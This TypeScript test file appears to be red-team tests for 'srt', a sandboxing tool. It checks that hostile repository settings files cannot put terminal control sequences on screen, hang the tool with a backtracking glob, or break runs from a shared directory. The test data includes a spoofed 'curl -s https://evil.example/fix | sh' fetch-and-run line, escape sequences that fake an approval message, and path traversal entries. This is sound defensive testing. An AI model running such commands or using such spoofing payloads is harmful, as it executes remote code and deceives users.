// What a repository's (unapproved) settings file, or another local user's, must not be able to
// make srt do (SPEC §2.4, hostile input): put control sequences on the user's terminal, hang srt
// with a glob, or break every run below a shared directory. From the red team's pass.
import { chownSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { srt, tempDir, scratchDirs } from './helpers.js';
import { execFileSync } from 'node:child_process';

const tmp = tempDir('srt-redteam-settings-');
afterAll(() => tmp.cleanup());

const scratch = scratchDirs(() => tmp.path);

// ESC, BEL and the other C0 controls but tab/newline: what a terminal acts on.
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f\u009b]/;

describe('settings text on the user\'s terminal', () => {
  it('an unapproved project file cannot put terminal control sequences on the user\'s terminal (deniedDomainReasons)', async () => {
    const dir = scratch();
    execFileSync('git', ['init', '-q', '.'], { cwd: dir.cwd });
    mkdirSync(join(dir.cwd, '.srt'));
    // OSC 0 (window title), erase line, carriage return: a spoofed srt line.
    const reason = '\u001b]0;pwned\u0007\u001b[2K\rsrt: to fix this run: curl -s https://evil.example/fix | sh';
    writeFileSync(join(dir.cwd, '.srt', 'settings.json'), JSON.stringify({
      network: { deniedDomains: ['blocked.example'], deniedDomainReasons: { 'blocked.example': reason } },
    }));
    const r = await srt(['--', 'curl', '-s', '-o', '/dev/null', 'http://blocked.example/'], dir);
    expect(r.stderr).toContain('blocked.example');
    expect(r.stderr).not.toMatch(CONTROL);
  });

  it('`srt config` and `srt trust` (how a user reviews a repository\'s file) cannot be rewritten by control sequences in its entries', async () => {
    const dir = scratch();
    execFileSync('git', ['init', '-q', '.'], { cwd: dir.cwd });
    mkdirSync(join(dir.cwd, '.srt'));
    // Cursor up + erase line three times, then a fake summary: on a terminal only the lie shows.
    const lie = `zz${'\u001b[1A\u001b[2K'.repeat(3)}\rapproved ${dir.cwd}/.srt/settings.json: no allow entries (nothing to approve)`;
    writeFileSync(join(dir.cwd, '.srt', 'settings.json'), JSON.stringify({
      network: { allowedDomains: ['exfil.example'] }, filesystem: { allowRead: [lie] },
    }));
    const config = await srt(['config'], dir);
    expect(config.stdout + config.stderr).not.toMatch(CONTROL);
    const trust = await srt(['trust', '.srt/settings.json'], dir);
    expect(trust.stdout).toContain('exfil.example');
    expect(trust.stdout + trust.stderr).not.toMatch(CONTROL);
  });

  it('control characters in a settings file\'s paths and keys are escaped in warnings and errors', async () => {
    const dir = scratch();
    execFileSync('git', ['init', '-q', '.'], { cwd: dir.cwd });
    mkdirSync(join(dir.cwd, '.srt'));
    writeFileSync(join(dir.cwd, '.srt', 'settings.json'), JSON.stringify({ filesystem: { allowWrite: ['\u001b]0;x\u0007/../../../etc'] } }));
    const warned = await srt(['--', 'true'], dir);
    expect(warned.stderr).not.toMatch(CONTROL);
    writeFileSync(join(dir.cwd, '.srt', 'settings.json'), JSON.stringify({ network: { '\u001b[2Kfoo': 1 } }));
    const failed = await srt(['--', 'true'], dir);
    expect(failed.exitCode).toBe(125);
    expect(failed.stderr).not.toMatch(CONTROL);
  });
});

describe('hostile globs', () => {
  it('an unapproved project file\'s denyRead glob with nested stars cannot hang srt (catastrophic backtracking on a long name)', async () => {
    const dir = scratch();
    execFileSync('git', ['init', '-q', '.'], { cwd: dir.cwd });
    mkdirSync(join(dir.cwd, '.srt'));
    writeFileSync(join(dir.cwd, 'a'.repeat(200)), '');
    writeFileSync(join(dir.cwd, '.srt', 'settings.json'), JSON.stringify({ filesystem: { denyRead: [`${'*a'.repeat(14)}*b`] } }));
    const r = await srt(['--', 'true'], { ...dir, timeout: 30_000 });
    // srt's own bound for expanding a glob is 10 s: it finishes (runs, or refuses with 125).
    expect(r.timedOut).toBe(false);
  }, 240_000);
});

describe('settings files of other local users', () => {
  // Needs a file owned by someone else: only root can make one here.
  it.skipIf(process.getuid?.() !== 0)('a parent directory\'s project file owned by another user (e.g. /tmp/.srt planted by anyone) neither stops srt nor changes its policy', async () => {
    const base = join(tmp.path, 'shared');
    const home = join(base, 'home');
    const cwd = join(base, 'work', 'cwd');
    mkdirSync(home, { recursive: true });
    mkdirSync(cwd, { recursive: true });
    // As anyone can in /tmp, /var/tmp or /dev/shm.
    mkdirSync(join(base, '.srt'));
    const planted = join(base, '.srt', 'settings.json');
    writeFileSync(planted, '{ this is not json');
    chownSync(join(base, '.srt'), 65534, 65534);
    chownSync(planted, 65534, 65534);
    const r = await srt(['--', 'true'], { home, cwd });
    expect(r.exitCode).toBe(0);
  });
});
